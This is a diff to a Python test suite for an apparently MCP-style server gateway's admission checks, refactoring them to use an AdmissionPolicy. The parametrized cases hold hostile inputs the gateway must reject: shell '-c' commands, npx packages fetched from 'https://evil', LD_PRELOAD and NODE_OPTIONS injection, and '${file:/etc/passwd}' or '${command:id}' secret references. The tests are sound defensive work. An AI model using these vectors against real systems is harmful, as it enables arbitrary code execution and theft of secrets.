@@ -4,12 +4,19 @@ from __future__ import annotations
 
 import pytest
 
+from toolway.config.admission.entry import AdmissionPolicy, as_untrusted, check_entry
 from toolway.config.schema import Server
 from toolway.config.server_entry import parse_entry
-from toolway.gateway.server_admission import as_untrusted, rejection_reason
-from toolway.network import NetworkPolicy
+from toolway.config.settings import parse_gateway
+from toolway.errors import ConfigError
+from toolway.network import PUBLIC_ONLY, NetworkPolicy
 
-ALLOWED = ("npx", "uvx", "python3", "/opt/server")
+ALLOWED = AdmissionPolicy(("npx", "uvx", "python3", "/opt/server"), frozenset({"TOKEN"}), frozenset({"TOKEN"}))
+
+
+def rejection_reason(server: Server, policy: AdmissionPolicy, addresses: NetworkPolicy = PUBLIC_ONLY) -> str | None:
+    rejection = check_entry(server, policy, addresses)
+    return rejection.reason if rejection is not None else None
 
 
 @pytest.mark.parametrize(
@@ -31,19 +38,19 @@ def test_what_the_operator_listed_is_taken(server: Server) -> None:
     [
         (Server(command="bash", args=("-c", "id")), "not listed"),
         (Server(command="/usr/bin/npx", args=("server@1.0.0",)), "not listed"),
-        (Server(command="npx", args=("-y", "server-github")), "fixed version"),
-        (Server(command="npx", args=("server@latest",)), "fixed version"),
-        (Server(command="npx", args=("./evil",)), "fixed version"),
-        (Server(command="npx", args=("https://evil/x.tgz",)), "fixed version"),
+        (Server(command="npx", args=("-y", "server-github")), "exact version"),
+        (Server(command="npx", args=("server@latest",)), "exact version"),
+        (Server(command="npx", args=("./evil",)), "exact version"),
+        (Server(command="npx", args=("https://evil/x.tgz",)), "exact version"),
         (Server(command="npx", args=("-c", "id")), "-c"),
         (Server(command="npx", args=("-yc", "id")), "-yc"),
         (Server(command="npx", args=("--call=id", "server@1.0.0")), "--call"),
         (Server(command="npx", args=("--package=evil", "server@1.0.0")), "--package"),
         (Server(command="uvx", args=("--from", "git+https://evil", "server==1.0")), "--from"),
         (Server(command="uvx", args=("--with", "evil", "server==1.0")), "--with"),
-        (Server(command="python3", args=("-c", "import os")), "-c"),
-        (Server(command="python3", args=("-Ic", "import os")), "-Ic"),
-        (Server(command="python3", args=("x.py",), env={"PYTHONPATH": "/tmp"}), "PYTHONPATH"),
+        (Server(command="python3", args=("-c", "import os")), "only scripts that are listed"),
+        (Server(command="python3", args=("x.py",)), "only scripts that are listed"),
+        (Server(command="uvx", args=("x==1.0",), env={"PYTHONPATH": "/tmp"}), "PYTHONPATH"),
         (Server(command="npx", args=("a@1.0.0",), env={"NODE_OPTIONS": "--require /tmp/x"}), "NODE_OPTIONS"),
         (Server(command="/opt/server", env={"LD_PRELOAD": "/tmp/x.so"}), "LD_PRELOAD"),
         (Server(command="/opt/server", env={"ld_library_path": "/tmp"}), "ld_library_path"),
@@ -54,9 +61,10 @@ def test_what_could_bring_code_of_its_own_is_not(server: Server, why: str) -> No
 
 
 def test_without_a_list_nothing_is_started() -> None:
-    assert rejection_reason(Server(command="/opt/server"), ()) is not None
+    assert rejection_reason(Server(command="/opt/server"), AdmissionPolicy()) is not None
 
 
+@pytest.mark.attack("held-38")
 @pytest.mark.parametrize("reference", ["${keyring:x}", "${file:/etc/passwd}", "${command:id}"])
 def test_a_token_of_the_gateway_reads_no_secret_of_this_machine(reference: str) -> None:
     for way in (
@@ -79,9 +87,36 @@ def test_a_token_of_the_gateway_opens_no_address_inside(host: str) -> None:
 
 def test_what_the_operator_allowed_may_be_added() -> None:
     server = as_untrusted(Server(url="http://10.0.0.1/mcp"))
-    assert rejection_reason(server, (), NetworkPolicy(("10.0.0.0/8",))) is None
-    assert rejection_reason(server, (), NetworkPolicy(("10.0.0.2",))) is not None
+    assert rejection_reason(server, AdmissionPolicy(), NetworkPolicy(("10.0.0.0/8",))) is None
+    assert rejection_reason(server, AdmissionPolicy(), NetworkPolicy(("10.0.0.2",))) is not None
 
 
+@pytest.mark.attack("held-38")
 def test_a_document_of_this_machine_is_not_read() -> None:
     assert "read a file" in (rejection_reason(parse_entry({"openapi": {"file": "/etc/passwd"}}, {}), ALLOWED) or "")
+
+
+def test_what_is_listed_is_read_from_the_gateway_settings() -> None:
+    block = {"allowedCommands": ["/opt/server --safe"], "allowedEnv": ["DATA_PATH"], "allowedVolumes": ["/srv/data/"]}
+    policy = parse_gateway({"gateway": block}, {}).admission
+    assert rejection_reason(Server(command="/opt/server", args=("--safe",), env={"DATA_PATH": "/x"}), policy) is None
+    assert policy.volumes == ("/srv/data",)
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        {"allowedCommands": ["npx 'x"]},
+        {"allowedCommands": [""]},
+        {"allowedEnv": ["LD_PRELOAD"]},
+        {"allowedEnv": ["HTTPS_PROXY"]},
+        {"allowedEnv": ["NOT A NAME"]},
+        {"allowedVolumes": ["/"]},
+        {"allowedVolumes": ["data"]},
+        {"allowedVolumes": ["/srv/.."]},
+    ],
+)
+def test_a_list_that_could_not_be_enforced_is_no_setting(block: dict[str, list[str]]) -> None:
+    with pytest.raises(ConfigError) as caught:
+        parse_gateway({"gateway": block}, {})
+    assert caught.value.code == "E-CONFIG-KEY"
